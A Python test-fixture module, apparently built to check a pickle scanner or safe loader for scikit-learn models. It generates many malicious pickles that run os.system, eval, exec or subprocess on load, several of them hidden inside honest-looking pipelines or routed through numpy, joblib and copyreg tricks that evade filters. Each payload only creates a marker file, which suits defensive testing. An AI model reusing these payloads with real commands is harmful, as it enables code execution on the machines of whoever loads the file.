"""Pickles that try to do something when they are opened: each leaves a file, the mark, if it gets its way.

``LIVE`` do so under ``pickle.loads``; a test shows that, as a harmless file proves nothing.
"""

from __future__ import annotations

import builtins
import copyreg
import functools
import marshal
import operator
import os
import pickle
import struct
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import joblib
import numpy as np
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer
from stored import fitted

Build = Callable[[Path], bytes]
LIVE: dict[str, Build] = {}
PROTO, STOP = b"\x80\x05", b"."
EXTENSION = 0x77


class Does:
    """Pickles as a call of a function."""

    def __init__(self, call: Callable[..., Any], *args: Any) -> None:
        self.parts = (call, args)

    def __reduce__(self) -> Any:
        return self.parts


def live(build: Build) -> Build:
    LIVE[build.__name__] = build
    return build


def touch(mark: Path) -> str:
    return f"open({str(mark)!r}, 'w').close()"


def shell(mark: Path) -> str:
    return f": > {mark}"


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"  # STACK_GLOBAL


def dumped(value: Any, protocol: int = 5) -> bytes:
    return pickle.dumps(value, protocol=protocol)


def with_(attribute: str, value: Any, step: int = -1, estimator: str = "logistic") -> bytes:
    """An honest probe but for one attribute."""
    pipeline = fitted(estimator)
    vars(pipeline[step])[attribute] = value
    return dumped(pipeline)


# ---- calls, in every protocol and opcode


for _protocol in range(6):
    LIVE[f"system_in_protocol_{_protocol}"] = lambda mark, p=_protocol: dumped(Does(os.system, shell(mark)), p)


@live
def eval_(mark: Path) -> bytes:
    return dumped(Does(builtins.eval, touch(mark)))


@live
def exec_(mark: Path) -> bytes:
    return dumped(Does(builtins.exec, touch(mark)))


@live
def open_(mark: Path) -> bytes:
    return dumped(Does(open, str(mark), "w"))


@live
def popen(mark: Path) -> bytes:
    return dumped(Does(subprocess.call, ["touch", str(mark)]))


@live
def partial(mark: Path) -> bytes:
    return dumped(Does(functools.partial(os.system, shell(mark))))


@live
def attrgetter(mark: Path) -> bytes:
    """operator.attrgetter("system")(import_module("os"))("...")"""
    module = name("importlib", "import_module") + text("os") + b"\x85R"
    getter = name("operator", "attrgetter") + text("system") + b"\x85R"
    return PROTO + getter + module + b"\x85R" + text(shell(mark)) + b"\x85R" + STOP


@live
def methodcaller(mark: Path) -> bytes:
    return dumped(Does(operator.methodcaller("touch"), mark))


@live
def map_(mark: Path) -> bytes:
    return dumped(Does(list, Does(map, os.system, [shell(mark)])))


@live
def marshalled_function(mark: Path) -> bytes:
    code = marshal.dumps(compile(touch(mark), "x", "exec"))
    body = name("marshal", "loads") + b"B" + struct.pack("<I", len(code)) + code + b"\x85R"
    return PROTO + name("types", "FunctionType") + body + b"}\x86R" + b")R" + STOP  # no globals, builtins come along


@live
def import_of_a_module(mark: Path) -> bytes:
    folder = mark.parent / "evil_path"
    folder.mkdir(exist_ok=True)
    (folder / f"evil_{mark.stem}.py").write_text(touch(mark) + "\nx = 1\n")
    path = name("sys", "path.append") + text(str(folder)) + b"\x85R0"
    return PROTO + path + name(f"evil_{mark.stem}", "x") + STOP


@live
def inst(mark: Path) -> bytes:
    return b"(S'" + shell(mark).encode() + b"'\nios\nsystem\n."


@live
def obj(mark: Path) -> bytes:
    return b"(cos\nsystem\nS'" + shell(mark).encode() + b"'\no."


@live
def global_in_a_memo(mark: Path) -> bytes:
    return PROTO + name("os", "system") + b"\x940h\x00" + text(shell(mark)) + b"\x85R" + STOP


@live
def name_from_memoised_texts(mark: Path) -> bytes:
    """Both parts of the name lie in the memo, in other order, among honest texts."""
    memo = text("system") + b"\x94" + text("sklearn.pipeline") + b"\x94" + text("os") + b"\x94" + b"000"
    return PROTO + memo + b"h\x02h\x00\x93" + text(shell(mark)) + b"\x85R" + STOP


@live
def extension_code(mark: Path) -> bytes:
    """A registered extension that was used before is taken from a cache, past find_class."""
    if ("os", "popen") not in copyreg._extension_registry:  # type: ignore[attr-defined]
        copyreg.add_extension("os", "popen", EXTENSION)
    pickle.loads(bytes([0x80, 2, 0x82, EXTENSION]) + STOP)
    return bytes([0x80, 5, 0x82, EXTENSION]) + text(shell(mark)) + b"\x85R" + STOP


@live
def copyreg_newobj(mark: Path) -> bytes:
    """copyreg.__newobj__(cls, *args) calls cls.__new__; tuple's takes any iterable and runs it."""
    calls = name("builtins", "map") + name("os", "system") + b"]" + text(shell(mark)) + b"a\x86R"
    return PROTO + name("copyreg", "__newobj__") + name("builtins", "tuple") + calls + b"\x86R" + STOP


@live
def newobj(mark: Path) -> bytes:
    calls = name("builtins", "map") + name("os", "system") + b"]" + text(shell(mark)) + b"a\x86R"
    return PROTO + name("builtins", "tuple") + calls + b"\x85\x81" + STOP


@live
def build_of_a_module(mark: Path) -> bytes:
    """BUILD writes into the dictionary of anything: here the state of an object whose class is made to run."""
    setter = name("types", "SimpleNamespace") + b")R" + b"}" + text("a") + name("os", "system") + b"sb0"
    return PROTO + setter + name("os", "system") + text(shell(mark)) + b"\x85R" + STOP


# ---- inside what looks like a probe


@live
def nested_in_an_attribute(mark: Path) -> bytes:
    return with_("coef_", (1, [2, {"x": (3, Does(os.system, shell(mark)))}]))


@live
def in_a_parameter(mark: Path) -> bytes:
    return with_("random_state", Does(os.system, shell(mark)))


@live
def as_a_key(mark: Path) -> bytes:
    return with_("class_weight", {Does(os.system, shell(mark)): 1.0})


@live
def in_an_object_array(mark: Path) -> bytes:
    return with_("classes_", np.array(["a", "b", Does(os.system, shell(mark))], dtype=object))


@live
def in_the_label_binarizer(mark: Path) -> bytes:
    return with_("_label_binarizer", Does(os.system, shell(mark)), estimator="ridge classifier")


@live
def as_a_step(mark: Path) -> bytes:
    pipeline = fitted()
    return dumped(Pipeline([*pipeline.steps[:1], ("evil", Does(os.system, shell(mark))), *pipeline.steps[1:]]))


@live
def in_the_cache_of_the_pipeline(mark: Path) -> bytes:
    pipeline = fitted()
    pipeline.memory = Does(os.system, shell(mark))
    return dumped(pipeline)


@live
def before_an_honest_probe(mark: Path) -> bytes:
    """The call's result is thrown away, and an honest probe is what comes out."""
    call = name("os", "system") + text(shell(mark)) + b"\x85R0"
    return PROTO + call + dumped(fitted())[2:]


@live
def as_an_argument_of_an_honest_class(mark: Path) -> bytes:
    call = name("os", "system") + text(shell(mark)) + b"\x85R"
    return PROTO + name("sklearn.preprocessing._data", "StandardScaler") + call + b"\x85\x81" + STOP


# ---- gadgets of libraries that everyone has


@live
def dotted_name(mark: Path) -> bytes:
    """From an honest class through its method's globals to exec."""
    found = name("sklearn.pipeline", "Pipeline.__init__.__globals__.__class__.get")
    space = name("sklearn.pipeline", "Pipeline.__init__.__globals__")
    inside = found + space + text("__builtins__") + b"\x86R"
    run = found + inside + text("exec") + b"\x86R"
    return PROTO + run + text(touch(mark)) + b"\x85R" + STOP


@live
def dotted_path_through_numpy(mark: Path) -> bytes:
    return PROTO + name("numpy.testing._private.utils", "os.system") + text(shell(mark)) + b"\x85R" + STOP


@live
def numpy_load(mark: Path) -> bytes:
    file = mark.with_suffix(".npy")
    np.save(file, np.array([Does(os.system, shell(mark))], dtype=object), allow_pickle=True)
    return dumped(Does(np.load, str(file), None, True))


@live
def numpy_runstring(mark: Path) -> bytes:
    return PROTO + name("numpy.testing._private.utils", "runstring") + text(touch(mark)) + b"}\x86R" + STOP


@live
def joblib_load(mark: Path) -> bytes:
    file = mark.with_suffix(".joblib")
    joblib.dump(Does(os.system, shell(mark)), file)
    return dumped(Does(joblib.load, str(file)))


@live
def pickle_in_a_pickle(mark: Path) -> bytes:
    return dumped(Does(pickle.loads, dumped(Does(os.system, shell(mark)))))


@live
def function_transformer(mark: Path) -> bytes:
    """Called while it is opened, where it would wait for predict otherwise."""
    transformer = FunctionTransformer(os.system)
    return dumped(Does(operator.methodcaller("fit_transform", shell(mark)), transformer))
